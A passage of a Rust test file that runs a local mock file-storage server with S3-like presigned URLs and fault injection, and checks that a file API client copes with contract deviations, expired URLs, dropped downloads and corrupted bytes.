//! The client against a Files API server that reads the contract "the other way" (the
//! "Tolerate (client)" list of `files-api.md`): bare-array listings without a cursor, opaque
//! keys, omitted and unknown fields, 200 for 201/204, other field names, other error shapes,
//! presigned URLs on another port with S3-style XML errors, and no `sha256` anywhere.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::cast_possible_truncation,
    reason = "tests and benchmarks stop at the first surprise"
)]

mod common;

use std::collections::{BTreeMap, HashMap};
use std::path::Path;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{DefaultBodyLimit, Multipart, Path as AxPath, Query, State};
use axum::http::{HeaderMap, StatusCode, header};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use filedeck::api::{
    ApiError, Client, FileEntry, Progress, UploadRequest, Uploaded, partial_paths,
};
use serde_json::{Value, json};
use tokio_util::sync::CancellationToken;

use common::{md5_hex, pattern, sha256_hex, write_file};

const TOKEN: &str = "other-token";
const WS: &str = "ws_other";

// ---------------------------------------------------------------------------------------
// The "other way" server
// ---------------------------------------------------------------------------------------

#[derive(Clone, Copy, PartialEq, Debug)]
enum Workspaces {
    /// No such route: axum's empty 404.
    Absent,
    /// A login page: 200 text/html.
    Html,
}

#[derive(Clone, Copy, Debug)]
struct Flavor {
    /// Name of the download URL field: `downloadUrl` or `download_url`.
    url_field: &'static str,
    workspaces: Workspaces,
    /// The first presigned GET answers S3's "Request has expired".
    expire_first_get: bool,
    /// The first presigned PUT answers S3's "Request has expired".
    expire_first_put: bool,
    /// GETs serve the right length and the right ETag, but one byte flipped.
    corrupt_get: bool,
    /// The first presigned GET sends this many bytes, then drops the connection.
    drop_first_get_after: Option<usize>,
    /// Every presigned GET answers S3's plain `AccessDenied` (a bucket policy, not expiry).
    deny_gets: bool,
    /// Absent optional fields are sent as JSON `null` rather than left out.
    nulls: bool,
    /// The PUT (and the multipart upload) stores the bytes with one flipped, and answers
    /// their (honest) MD5 ETag.
    corrupt_put: bool,
    /// List, upload and confirm answers leave `size` out.
    no_sizes: bool,
    /// The confirm answers `{"key": …}` alone, as an opaque-key service does.
    confirm_key_only: bool,
    /// Objects are stored with SSE-KMS: GETs and PUTs answer
    /// `x-amz-server-side-encryption: aws:kms` and an `ETag` of 32 hex digits that is not
    /// the MD5 of the bytes.
    kms: bool,
    /// The list route ignores `prefix` and lists the whole workspace.
    ignore_prefix: bool,
}

impl Default for Flavor {
    fn default() -> Self {
        Flavor {
            url_field: "downloadUrl",
            workspaces: Workspaces::Absent,
            expire_first_get: false,
            expire_first_put: false,
            corrupt_get: false,
            drop_first_get_after: None,
            deny_gets: false,
            nulls: false,
            corrupt_put: false,
            no_sizes: false,
            confirm_key_only: false,
            kms: false,
            ignore_prefix: false,
        }
    }
}

impl Flavor {
    /// The `ETag` of stored bytes: their MD5, or under KMS an opaque 32-hex value.
    fn etag(&self, stored: &[u8]) -> String {
        if self.kms {
            let mut salted = b"kms data key ".to_vec();
            salted.extend_from_slice(stored);
            format!("\"{}\"", md5_hex(&salted))
        } else {
            format!("\"{}\"", md5_hex(stored))
        }
    }

    /// The headers every byte answer carries besides the `ETag`.
    fn sse_headers(&self, h: &mut HeaderMap) {
        if self.kms {
            h.insert("x-amz-server-side-encryption", "aws:kms".parse().unwrap());
            h.insert(
                "x-amz-server-side-encryption-aws-kms-key-id",
                "arn:aws:kms:eu-west-1:111122223333:key/0000"
                    .parse()
                    .unwrap(),
            );
        }
    }
}

struct Obj {
    path: String,
    name: String,
    bytes: Arc<Vec<u8>>,
}

struct Pending {
    path: String,
    name: String,
    size: u64,
    bytes: Option<Arc<Vec<u8>>>,
}

#[derive(Default, Debug)]
struct Seen {
    download_url: u32,
    upload_url: u32,
    gets: u32,
    puts: u32,
    /// `(Range, If-Range)` of every presigned GET.
    get_headers: Vec<(Option<String>, Option<String>)>,
}

struct Mock {
    flavor: Flavor,
    bytes_base: String,
    /// Opaque key → object.
    objects: Mutex<BTreeMap<String, Obj>>,
    pending: Mutex<HashMap<String, Pending>>,
    next_id: AtomicU64,
    seen: Mutex<Seen>,
}

struct Running {
    mock: Arc<Mock>,
    api: String,
    api_port: u16,
    bytes_port: u16,
}

impl Mock {
    async fn start(flavor: Flavor) -> Running {
        let bytes_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let bytes_addr = bytes_listener.local_addr().unwrap();
        let api_listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let api_addr = api_listener.local_addr().unwrap();
        let mock = Arc::new(Mock {
            flavor,
            bytes_base: format!("http://{bytes_addr}"),
            objects: Mutex::new(BTreeMap::new()),
            pending: Mutex::new(HashMap::new()),
            next_id: AtomicU64::new(0),
            seen: Mutex::new(Seen::default()),
        });
        let mut api = Router::new()
            .route("/v1/files", get(list).delete(delete))
            .route("/v1/files/download", get(download_url))
            .route("/v1/files/upload", post(upload))
            .route("/v1/files/upload-url", post(upload_url))
            .route("/v1/files/upload-confirm", post(confirm));
        if flavor.workspaces == Workspaces::Html {
            api = api.route("/v1/workspaces", get(html_workspaces));
        }
        let api = api
            .layer(DefaultBodyLimit::disable())
            .with_state(mock.clone());
        let bytes = Router::new()
            .route("/b/{key}", get(get_bytes).put(put_bytes))
            .layer(DefaultBodyLimit::disable())
            .with_state(mock.clone());
        tokio::spawn(async move {
            let _ = axum::serve(bytes_listener, bytes).await;
        });
        tokio::spawn(async move {
            let _ = axum::serve(api_listener, api).await;
        });
        Running {
            mock,
            api: format!("http://{api_addr}"),
            api_port: api_addr.port(),
            bytes_port: bytes_addr.port(),
        }
    }

    fn new_key(&self) -> String {
        format!("obj-{:04}", self.next_id.fetch_add(1, Ordering::SeqCst) + 1)
    }

    /// Store `bytes` at `folder + name` under `key` (or a new opaque key), replacing a file
    /// of the same identity. A file beside a folder of the same name is a conflict.
    fn insert(
        &self,
        key: Option<String>,
        folder: &str,
        name: &str,
        bytes: Arc<Vec<u8>>,
    ) -> Result<String, String> {
        let display = format!("{folder}{name}");
        let mut objects = self.objects.lock().unwrap();
        let mut replaced = None;
        for (k, o) in objects.iter() {
            let other = format!("{}{}", o.path, o.name);
            if other == display {
                replaced = Some(k.clone());
            } else if other.starts_with(&format!("{display}/"))
                || display.starts_with(&format!("{other}/"))
            {
                return Err(format!("Conflict: {display} and {other} cannot both exist"));
            }
        }
        let key = match (key, replaced) {
            (Some(k), Some(old)) => {
                objects.remove(&old);
                k
            }
            (Some(k), None) => k,
            (None, Some(old)) => old,
            (None, None) => self.new_key(),
        };
        objects.insert(
            key.clone(),
            Obj {
                path: folder.to_string(),
                name: name.to_string(),
                bytes,
            },
        );
        Ok(key)
    }

    fn seed(&self, display: &str, bytes: Vec<u8>) -> String {
        let (folder, name) = match display.rfind('/') {
            Some(i) => (&display[..=i], &display[i + 1..]),
            None => ("", display),
        };
        self.insert(None, folder, name, Arc::new(bytes)).unwrap()
    }

    /// Store `bytes` under `key` as `folder` + `name` exactly as given, replacing nothing
    /// and checking nothing: what a hostile server, or one holding two files of one
    /// display path, lists.
    fn seed_raw(&self, key: &str, folder: &str, name: &str, bytes: Vec<u8>) {
        self.objects.lock().unwrap().insert(
            key.to_string(),
            Obj {
                path: folder.to_string(),
                name: name.to_string(),
                bytes: Arc::new(bytes),
            },
        );
    }

    /// Every stored object as `(key, path + name, bytes)`, sorted by key.
    fn stored(&self) -> Vec<(String, String, Arc<Vec<u8>>)> {
        self.objects
            .lock()
            .unwrap()
            .iter()
            .map(|(k, o)| (k.clone(), format!("{}{}", o.path, o.name), o.bytes.clone()))
            .collect()
    }

    fn remove_display(&self, display: &str) {
        self.objects
            .lock()
            .unwrap()
            .retain(|_, o| format!("{}{}", o.path, o.name) != display);
    }
}

/// A file object as this server describes it: opaque key, unknown fields, optional fields
/// present only on every other entry, `path` omitted at the root and without its trailing
/// `/` on odd entries, never a `sha256` or `etag`. With `no_sizes` it has no `size`
/// either; with `nulls`, every optional field it leaves out is `null` instead.
fn entry_json(i: usize, key: &str, o: &Obj, flavor: &Flavor) -> Value {
    let mut e = json!({
        "key": key,
        "name": o.name,
        "storage_class": "STANDARD",
        "owner": {"id": "u-1", "display": "someone"},
        "versions": [1, 2, 3],
    });
    if !flavor.no_sizes {
        e["size"] = json!(o.bytes.len());
    }
    if !o.path.is_empty() {
        let path = if !i.is_multiple_of(2) {
            o.path.trim_end_matches('/').to_string()
        } else {
            o.path.clone()
        };
        e["path"] = json!(path);
    }
    if i.is_multiple_of(2) {
        e["content_type"] = json!("application/octet-stream");
        e["created_at"] = json!("2026-01-02T03:04:05Z");
        e["description"] = Value::Null;
    }
    if flavor.nulls {
        for field in [
            "size",
            "path",
            "description",
            "content_type",
            "created_at",
            "sha256",
            "etag",
        ] {
            if e.get(field).is_none() {
                e[field] = Value::Null;
            }
        }
    }
    e
}

/// `None` when the bearer token is right, else the plain-text `401` to answer.
fn refuse(headers: &HeaderMap) -> Option<Response> {
    let want = format!("Bearer {TOKEN}");
    match headers
        .get(header::AUTHORIZATION)
        .and_then(|v| v.to_str().ok())
    {
        Some(v) if v == want => None,
        _ => Some(
            (
                StatusCode::UNAUTHORIZED,
                "Unauthorized: invalid bearer token",
            )
                .into_response(),
        ),
    }
}

/// Workspace `err-<status>-<shape>` answers that status with that error shape.
fn scripted_error(ws: &str) -> Option<Response> {
    let (status, shape) = ws.strip_prefix("err-")?.split_once('-')?;
    let status = StatusCode::from_u16(status.parse().ok()?).ok()?;
    let text = scripted_text(status.as_u16(), shape);
    Some(match shape {
        "detail" => (status, axum::Json(json!({"detail": text}))).into_response(),
        "message" => (status, axum::Json(json!({"message": text}))).into_response(),
        _ => (status, text).into_response(),
    })
}

fn scripted_text(status: u16, shape: &str) -> String {
    format!("scripted failure {status} in {shape} shape")
}

fn s3_error(status: StatusCode, code: &str, message: &str) -> Response {
    let body = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Error><Code>{code}</Code>\
         <Message>{message}</Message><RequestId>4442587FB7D0A2F9</RequestId></Error>"
    );
    (status, [(header::CONTENT_TYPE, "application/xml")], body).into_response()
}

type Q = Query<HashMap<String, String>>;

async fn list(State(m): State<Arc<Mock>>, headers: HeaderMap, Query(q): Q) -> Response {
    if let Some(r) = refuse(&headers) {
        return r;
    }
    let ws = q.get("workspace_id").map(String::as_str).unwrap_or("");
    if let Some(r) = scripted_error(ws) {
        return r;
    }
    let prefix = q.get("prefix").map(String::as_str).unwrap_or("");
    // The hosted reading: no cursor, and a page capped at 100 whatever was asked.
    let limit = q
        .get("limit")
        .and_then(|l| l.parse::<usize>().ok())
        .unwrap_or(100)
        .min(100);
    let objects = m.objects.lock().unwrap();
    let mut rows: Vec<(String, &String, &Obj)> = objects
        .iter()
        .map(|(k, o)| (format!("{}{}", o.path, o.name), k, o))
        .filter(|(d, _, _)| m.flavor.ignore_prefix || d.starts_with(prefix))
        .collect();
    rows.sort_by(|a, b| a.0.cmp(&b.0));
    rows.truncate(limit);
    let items: Vec<Value> = rows
        .iter()
        .enumerate()
        .map(|(i, (_, k, o))| entry_json(i, k, o, &m.flavor))
        .collect();
    axum::Json(Value::Array(items)).into_response()
}

async fn delete(State(m): State<Arc<Mock>>, headers: HeaderMap, Query(q): Q) -> Response {
    if let Some(r) = refuse(&headers) {
        return r;
    }
    let key = q.get("key").cloned().unwrap_or_default();
    match m.objects.lock().unwrap().remove(&key) {
        // 200 with a body where the contract says 204.
        Some(_) => axum::Json(json!({"deleted": true, "key": key})).into_response(),
        None => (
            StatusCode::NOT_FOUND,
            axum::Json(json!({"detail": format!("No such object: {key}")})),
        )
            .into_response(),
    }
}

async fn download_url(State(m): State<Arc<Mock>>, headers: HeaderMap, Query(q): Q) -> Response {
    if let Some(r) = refuse(&headers) {
        return r;
    }
    m.seen.lock().unwrap().download_url += 1;
    let key = q.get("key").cloned().unwrap_or_default();
    if !m.objects.lock().unwrap().contains_key(&key) {
        return (
            StatusCode::NOT_FOUND,
            axum::Json(json!({"detail": format!("No such object: {key}")})),
        )
            .into_response();
    }
    let url = format!(
        "{}/b/{key}?X-Amz-Expires=60&X-Amz-Signature=0123456789abcdef",
        m.bytes_base
    );
    let mut body = serde_json::Map::new();
    body.insert(m.flavor.url_field.to_string(), json!(url));
    body.insert("expiresIn".to_string(), json!(60));
    axum::Json(Value::Object(body)).into_response()
}

async fn upload(State(m): State<Arc<Mock>>, headers: HeaderMap, mut form: Multipart) -> Response {
    if let Some(r) = refuse(&headers) {
        return r;
    }
    let mut folder = String::new();
    let mut file: Option<(String, Vec<u8>)> = None;
    while let Ok(Some(field)) = form.next_field().await {
        match field.name() {
            Some("file") => {
                let name = field.file_name().unwrap_or_default().to_string();
                match field.bytes().await {
                    Ok(b) => {
                        let mut stored = b.to_vec();
                        if m.flavor.corrupt_put && !stored.is_empty() {
                            stored[0] ^= 0x01;
                        }
                        file = Some((name, stored));
                    }
                    Err(e) => return (StatusCode::BAD_REQUEST, e.to_string()).into_response(),
                }
            }
            Some("path") => folder = field.text().await.unwrap_or_default(),
            _ => {}
        }
    }
    let Some((name, bytes)) = file else {
        return (
            StatusCode::UNPROCESSABLE_ENTITY,
            axum::Json(json!({"detail": "file is required"})),
        )
            .into_response();
    };
    if !folder.is_empty() && !folder.ends_with('/') {
        folder.push('/');
    }
    match m.insert(None, &folder, &name, Arc::new(bytes)) {
        Ok(key) => {
            let objects = m.objects.lock().unwrap();
            let mut e = entry_json(1, &key, &objects[&key], &m.flavor);
            e["uploaded"] = json!(true);
            // 200 where the contract says 201.
            (StatusCode::OK, axum::Json(e)).into_response()
        }
        // Plain text.
        Err(msg) => (StatusCode::CONFLICT, msg).into_response(),
    }
}

async fn upload_url(State(m): State<Arc<Mock>>, headers: HeaderMap, body: Bytes) -> Response {
    if let Some(r) = refuse(&headers) {
        return r;
    }
    m.seen.lock().unwrap().upload_url += 1;
    let Ok(req) = serde_json::from_slice::<Value>(&body) else {
        return (StatusCode::BAD_REQUEST, "not JSON").into_response();
    };
    let name = req["filename"].as_str().unwrap_or_default().to_string();
    let mut path = req["path"].as_str().unwrap_or_default().to_string();
    if !path.is_empty() && !path.ends_with('/') {
        path.push('/');
    }
    let size = req["size"].as_u64().unwrap_or_default();
    let key = m.new_key();
    m.pending.lock().unwrap().insert(
        key.clone(),
        Pending {
            path,
            name,
            size,
            bytes: None,
        },
    );
    axum::Json(json!({
        "upload_url": format!("{}/b/{key}?X-Amz-Signature=fedcba9876543210", m.bytes_base),
        "file_key": key,
        "method": "PUT",
    }))
    .into_response()
}

async fn confirm(State(m): State<Arc<Mock>>, headers: HeaderMap, body: Bytes) -> Response {
    if let Some(r) = refuse(&headers) {
        return r;
    }
    let Ok(req) = serde_json::from_slice::<Value>(&body) else {
        return (StatusCode::BAD_REQUEST, "not JSON").into_response();
    };
    let key = ["file_key", "fileKey", "key"]
        .iter()
        .find_map(|f| req[*f].as_str())
        .unwrap_or_default()
        .to_string();
    let pending = m.pending.lock().unwrap().remove(&key);
    let Some(Pending {
        path,
        name,
        size,
        bytes: Some(bytes),
    }) = pending
    else {
        return (
            StatusCode::NOT_FOUND,
            axum::Json(json!({"detail": "no bytes were uploaded for this key"})),
        )
            .into_response();
    };
    if bytes.len() as u64 != size || req["size"].as_u64() != Some(size) {
        return (
            StatusCode::CONFLICT,
            axum::Json(json!({"message": "size differs"})),
        )
            .into_response();
    }
    match m.insert(Some(key.clone()), &path, &name, bytes) {
        Ok(key) if m.flavor.confirm_key_only => axum::Json(json!({"key": key})).into_response(),
        Ok(key) => {
            let objects = m.objects.lock().unwrap();
            axum::Json(entry_json(0, &key, &objects[&key], &m.flavor)).into_response()
        }
        Err(msg) => (StatusCode::CONFLICT, msg).into_response(),
    }
}

async fn html_workspaces() -> Response {
    (
        [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
        "<!doctype html><html><body><h1>Sign in</h1></body></html>",
    )
        .into_response()
}

/// The presigned GET: S3-like, ETag = quoted MD5, `Range` + `If-Range`.
async fn get_bytes(
    State(m): State<Arc<Mock>>,
    AxPath(key): AxPath<String>,
    headers: HeaderMap,
) -> Response {
    let text = |name: header::HeaderName| {
        headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .map(str::to_string)
    };
    let (range, if_range) = (text(header::RANGE), text(header::IF_RANGE));
    let n = {
        let mut seen = m.seen.lock().unwrap();
        seen.gets += 1;
        seen.get_headers.push((range.clone(), if_range.clone()));
        seen.gets
    };
    if headers.contains_key(header::AUTHORIZATION) {
        return s3_error(
            StatusCode::BAD_REQUEST,
            "InvalidArgument",
            "Only one auth mechanism allowed",
        );
    }
    if m.flavor.expire_first_get && n == 1 {
        return s3_error(StatusCode::FORBIDDEN, "AccessDenied", "Request has expired");
    }
    if m.flavor.deny_gets {
        return s3_error(StatusCode::FORBIDDEN, "AccessDenied", "Access Denied");
    }
    let Some(stored) = m.objects.lock().unwrap().get(&key).map(|o| o.bytes.clone()) else {
        return s3_error(
            StatusCode::NOT_FOUND,
            "NoSuchKey",
            "The specified key does not exist.",
        );
    };
    let etag = m.flavor.etag(&stored);
    let mut bytes = (*stored).clone();
    if m.flavor.corrupt_get && !bytes.is_empty() {
        let mid = bytes.len() / 2;
        bytes[mid] ^= 0x5a;
    }
    let len = bytes.len() as u64;
    let honour = range.is_some() && if_range.as_deref().is_none_or(|v| v == etag);
    let span = if honour {
        match parse_range(range.as_deref().unwrap_or_default(), len) {
            Some(span) => Some(span),
            None => {
                let mut r = s3_error(
                    StatusCode::RANGE_NOT_SATISFIABLE,
                    "InvalidRange",
                    "The requested range is not satisfiable",
                );
                r.headers_mut().insert(
                    header::CONTENT_RANGE,
                    format!("bytes */{len}").parse().unwrap(),
                );
                return r;
            }
        }
    } else {
        None
    };
    let (status, start, end) = match span {
        Some((s, e)) => (StatusCode::PARTIAL_CONTENT, s, e),
        None => (StatusCode::OK, 0, len),
    };
    let slice = Bytes::from(bytes).slice(start as usize..end as usize);
    let body = match m.flavor.drop_first_get_after {
        Some(k) if n == 1 => cut_body(slice.slice(..k.min(slice.len()))),
        _ => Body::from(slice.clone()),
    };
    let mut resp = Response::new(body);
    *resp.status_mut() = status;
    let h = resp.headers_mut();
    h.insert(header::ETAG, etag.parse().unwrap());
    h.insert(header::CONTENT_LENGTH, slice.len().into());
    h.insert(header::ACCEPT_RANGES, "bytes".parse().unwrap());
    h.insert(header::CONTENT_TYPE, "binary/octet-stream".parse().unwrap());
    m.flavor.sse_headers(h);
    if status == StatusCode::PARTIAL_CONTENT {
        h.insert(
            header::CONTENT_RANGE,
            format!("bytes {start}-{}/{len}", end - 1).parse().unwrap(),
        );
    }
    resp
}

/// Send `part`, give the connection a chance to flush it, then fail the body (hyper aborts
/// the connection: the client sees a truncated response).
fn cut_body(part: Bytes) -> Body {
    let stream = futures_util::stream::unfold(0u8, move |step| {
        let part = part.clone();
        async move {
            match step {
                0 => Some((Ok(part), 1)),
                1 => {
                    for _ in 0..4 {
                        tokio::task::yield_now().await;
                    }
                    Some((Err(std::io::Error::other("connection dropped")), 2))
                }
                _ => None,
            }
        }
    });
    Body::from_stream(stream)
}

/// `bytes=N-`, `bytes=N-M`, `bytes=-N` → half-open `(start, end)`; `None` if unsatisfiable.
fn parse_range(value: &str, len: u64) -> Option<(u64, u64)> {
    let spec = value.trim().strip_prefix("bytes=")?;
    let (a, b) = spec.split_once('-')?;
    let (start, end) = match (a.trim(), b.trim()) {
        ("", n) => {
            let n: u64 = n.parse().ok()?;
            (len.saturating_sub(n), len)
        }
        (s, "") => (s.parse().ok()?, len),
        (s, e) => (s.parse().ok()?, (e.parse::<u64>().ok()? + 1).min(len)),
    };
    (start < end).then_some((start, end))
}

/// The presigned PUT: like S3, `411` without `Content-Length`, `400` with an
/// `Authorization` header, ETag = quoted MD5.
async fn put_bytes(
    State(m): State<Arc<Mock>>,
    AxPath(key): AxPath<String>,
    headers: HeaderMap,
    body: Bytes,
) -> Response {
    let n = {
        let mut seen = m.seen.lock().unwrap();
        seen.puts += 1;
        seen.puts
    };
    if headers.contains_key(header::AUTHORIZATION) {
        return s3_error(
            StatusCode::BAD_REQUEST,
            "InvalidArgument",
            "Only one auth mechanism allowed; only the X-Amz-Algorithm query parameter...",
        );
    }
    let Some(declared) = headers
        .get(header::CONTENT_LENGTH)
        .and_then(|v| v.to_str().ok())
        .and_then(|v| v.parse::<usize>().ok())
    else {
        return s3_error(
            StatusCode::LENGTH_REQUIRED,
            "MissingContentLength",
            "You must provide the Content-Length HTTP header.",
        );
    };
    if m.flavor.expire_first_put && n == 1 {
        return s3_error(StatusCode::FORBIDDEN, "AccessDenied", "Request has expired");
    }
    if declared != body.len() {
        return s3_error(StatusCode::BAD_REQUEST, "IncompleteBody", "short body");
    }
    let mut stored = body.to_vec();
    if m.flavor.corrupt_put && !stored.is_empty() {
        stored[0] ^= 0x01;
    }
    let etag = m.flavor.etag(&stored);
    match m.pending.lock().unwrap().get_mut(&key) {
        Some(p) => p.bytes = Some(Arc::new(stored)),
        None => {
            return s3_error(
                StatusCode::NOT_FOUND,
                "NoSuchUpload",
                "The specified upload does not exist.",
            );
        }
    }
    let mut resp = (StatusCode::OK, [(header::ETAG, etag)]).into_response();
    m.flavor.sse_headers(resp.headers_mut());
    resp
}

// ---------------------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------------------

fn client(run: &Running) -> Client {
    common::client(&run.api, TOKEN, |_| {})
}

async fn upload_file(c: &Client, local: &Path, folder: &str) -> Result<FileEntry, ApiError> {
    upload_full(c, local, folder).await.map(|u| u.entry)
}

/// An upload with all it reports: the entry and why it is unverified, if it is.
async fn upload_full(c: &Client, local: &Path, folder: &str) -> Result<Uploaded, ApiError> {
    let req = UploadRequest {
        workspace: WS,
        local,
        folder,
        name: None,
        description: Some("from the tolerate tests"),
    };
    c.upload(&req, &Progress::new(), &CancellationToken::new())
        .await
}

async fn listed(c: &Client, display: &str) -> FileEntry {
    let mut found = c.lookup(WS, display).await.expect("lookup").matches;
    assert_eq!(found.len(), 1, "{display} is not listed once");
    found.remove(0)
}

#[tokio::test]
async fn bare_array_listing_with_opaque_keys_and_odd_fields() {
    let run = Mock::start(Flavor::default()).await;
    let k_vcf = run
        .mock
        .seed("raw/sample.vcf", b"##fileformat=VCFv4.2\n".to_vec());
    let k_notes = run.mock.seed("notes.txt", b"hello".to_vec());
    let k_bed = run.mock.seed("raw/deep/x.bed", b"chr1\t1\t2\n".to_vec());
    let c = client(&run);

    let page = c.list_page(WS, "", None).await.unwrap();
    assert_eq!(page.next_cursor, None);
    assert!(!page.maybe_incomplete, "3 files is not a full page");
    let got: Vec<(String, String, String, Option<u64>)> = page
        .files
        .iter()
        .map(|f| (f.display_key(), f.key.clone(), f.name.clone(), f.size))
        .collect();
    assert_eq!(
        got,
        vec![
            (
                "notes.txt".into(),
                k_notes.clone(),
                "notes.txt".into(),
                Some(5)
            ),
            (
                "raw/deep/x.bed".into(),
                k_bed.clone(),
                "x.bed".into(),
                Some(9)
            ),
            (
                "raw/sample.vcf".into(),
                k_vcf.clone(),
                "sample.vcf".into(),
                Some(21)
            ),
        ]
    );
    assert!(got.iter().all(|(_, k, _, _)| k.starts_with("obj-")));
    // `path` was sent as "raw/deep" (no slash) for the second entry and omitted for the first.
    assert_eq!(page.files[0].path, "");
    assert_eq!(page.files[1].path, "raw/deep/");
    assert_eq!(page.files[2].path, "raw/");
    assert!(
        page.files
            .iter()
            .all(|f| f.sha256.is_none() && f.etag.is_none())
    );
    assert_eq!(
        page.files[0].content_type.as_deref(),
        Some("application/octet-stream")
    );
    assert_eq!(page.files[1].content_type, None);
    assert_eq!(page.files[1].created_at, None);

    let all = c.list_all(WS, "raw/").await.unwrap();
    assert!(!all.maybe_incomplete);
    let keys: Vec<String> = all.files.iter().map(FileEntry::display_key).collect();
    assert_eq!(keys, vec!["raw/deep/x.bed", "raw/sample.vcf"]);

    // Identity is path + name; the opaque key addresses the file.
    let found = listed(&c, "raw/sample.vcf").await;
    assert_eq!(found.key, k_vcf);
    assert!(c.lookup(WS, "obj-0001").await.unwrap().absent());
}

#[tokio::test]
async fn a_full_page_without_cursor_may_be_incomplete() {
    let run = Mock::start(Flavor::default()).await;
    for i in 0..100 {
        run.mock.seed(&format!("many/f{i:03}.txt"), vec![b'x'; i]);
    }
    let c = client(&run);
    let page = c.list_page(WS, "", None).await.unwrap();
    assert_eq!(page.files.len(), 100);
    assert_eq!(page.next_cursor, None);
    assert!(page.maybe_incomplete, "a bare array of exactly 100 files");
    let all = c.list_all(WS, "").await.unwrap();
    assert_eq!(all.files.len(), 100);
    assert!(all.maybe_incomplete);

    run.mock.remove_display("many/f000.txt");
    let page = c.list_page(WS, "", None).await.unwrap();
    assert_eq!(page.files.len(), 99);
    assert!(!page.maybe_incomplete, "99 files is a short page: complete");
}

#[tokio::test]
async fn upload_200_delete_200_and_download_url_in_camel_case() {
    let run = Mock::start(Flavor {
        url_field: "downloadUrl",
        ..Flavor::default()
    })
    .await;
    let c = client(&run);
    let dir = tempfile::tempdir().unwrap();
    let bytes = pattern(300_000, 1);
    let local = write_file(dir.path(), "a.bin", &bytes);

    let first = upload_file(&c, &local, "raw")
        .await
        .expect("upload answered 200");
    assert_eq!(first.display_key(), "raw/a.bin");
    assert!(first.key.starts_with("obj-"), "{first:?}");
    assert_eq!(first.size, Some(bytes.len() as u64));
    assert_eq!(first.sha256, None);
    // Repeating the upload replaces the file under the same identity.
    let again = upload_file(&c, &local, "raw/").await.unwrap();
    assert_eq!(again.key, first.key);
    let all = c.list_all(WS, "").await.unwrap();
    assert_eq!(all.files.len(), 1);

    let entry = listed(&c, "raw/a.bin").await;
    let (_, got, outcome) = common::download(&c, WS, &entry, dir.path()).await.unwrap();
    assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
    assert_eq!(outcome.resumed_from, 0);
    // One for the download, and one per upload: an answer without a hash is checked
    // against the MD5 its bytes' ETag stands for, read by key.
    assert_eq!(run.mock.seen.lock().unwrap().download_url, 3);

    c.delete(WS, &entry.key)
        .await
        .expect("delete answered 200 with a body");
    assert!(c.list_all(WS, "").await.unwrap().files.is_empty());
    match c.delete(WS, &entry.key).await {
        Err(ApiError::NotFound(m)) => {
            assert!(m.contains(&format!("No such object: {}", entry.key)), "{m}")
        }
        other => panic!("a first-attempt 404 is an error: {other:?}"),
    }
}

#[tokio::test]
async fn download_url_in_snake_case() {
    let run = Mock::start(Flavor {
        url_field: "download_url",
        ..Flavor::default()
    })
    .await;
    let bytes = pattern(70_001, 2);
    run.mock.seed("x/y.dat", bytes.clone());
    let c = client(&run);
    let entry = listed(&c, "x/y.dat").await;
    let url = c.download_url(WS, &entry.key).await.unwrap();
    assert_eq!(url.port(), Some(run.bytes_port));
    assert_ne!(run.bytes_port, run.api_port);
    let dir = tempfile::tempdir().unwrap();
    let (_, got, _) = common::download(&c, WS, &entry, dir.path()).await.unwrap();
    assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
}

#[tokio::test]
async fn errors_in_every_shape_map_to_the_status() {
    let run = Mock::start(Flavor::default()).await;
    let c = client(&run);
    for status in [401u16, 403, 404, 409] {
        for shape in ["detail", "message", "text"] {
            let ws = format!("err-{status}-{shape}");
            let err = c.list_page(&ws, "", None).await.unwrap_err();
            let text = scripted_text(status, shape);
            let carried = |m: &str| assert!(m.contains(&text), "{status}/{shape}: {m:?}");
            match (status, &err) {
                (401, ApiError::Unauthorized) => {}
                (403, ApiError::Forbidden(m)) => carried(m),
                (404, ApiError::NotFound(m)) => carried(m),
                (409, ApiError::Conflict(m)) => carried(m),
                _ => panic!("{status} with a {shape} body became {err:?}"),
            }
        }
    }

    // The same shapes from the routes themselves.
    let err = c.download_url(WS, "obj-9999").await.unwrap_err();
    assert!(
        matches!(&err, ApiError::NotFound(m) if m.contains("No such object: obj-9999")),
        "{err:?}"
    );
    run.mock.seed("raw/inner.txt", b"x".to_vec());
    let dir = tempfile::tempdir().unwrap();
    let local = write_file(dir.path(), "raw", b"a file named like a folder");
    let err = upload_file(&c, &local, "").await.unwrap_err();
    assert!(
        matches!(&err, ApiError::Conflict(m) if m.contains("Conflict: raw and raw/inner.txt")),
        "{err:?}"
    );
    let wrong = common::client(&run.api, "not-the-token", |_| {});
    let err = wrong.list_page(WS, "", None).await.unwrap_err();
    assert!(matches!(err, ApiError::Unauthorized), "{err:?}");
}

#[tokio::test]
async fn expired_presigned_get_in_s3_xml_gets_a_fresh_url() {
    let run = Mock::start(Flavor {
        expire_first_get: true,
        ..Flavor::default()
    })
    .await;
    let bytes = pattern(123_457, 3);
    run.mock.seed("data/e.bin", bytes.clone());
    let c = client(&run);
    let entry = listed(&c, "data/e.bin").await;
    let dir = tempfile::tempdir().unwrap();
    let (_, got, _) = common::download(&c, WS, &entry, dir.path())
        .await
        .expect("download after a fresh URL");
    assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
    let seen = run.mock.seen.lock().unwrap();
    assert_eq!(seen.download_url, 2, "the download URL was asked for again");
    assert_eq!(seen.gets, 2);
}

#[tokio::test]
async fn dropped_get_resumes_with_range_and_if_range_verified_by_md5_etag() {
    let run = Mock::start(Flavor {
        drop_first_get_after: Some(300_000),
        ..Flavor::default()
    })
    .await;
    let bytes = pattern(1 << 20, 4);
    run.mock.seed("big/r.bin", bytes.clone());
    let c = client(&run);
    let entry = listed(&c, "big/r.bin").await;
    assert_eq!(entry.sha256, None);
    let dir = tempfile::tempdir().unwrap();
    let (_, got, outcome) = common::download(&c, WS, &entry, dir.path()).await.unwrap();
    assert_eq!(sha256_hex(&got), sha256_hex(&bytes));
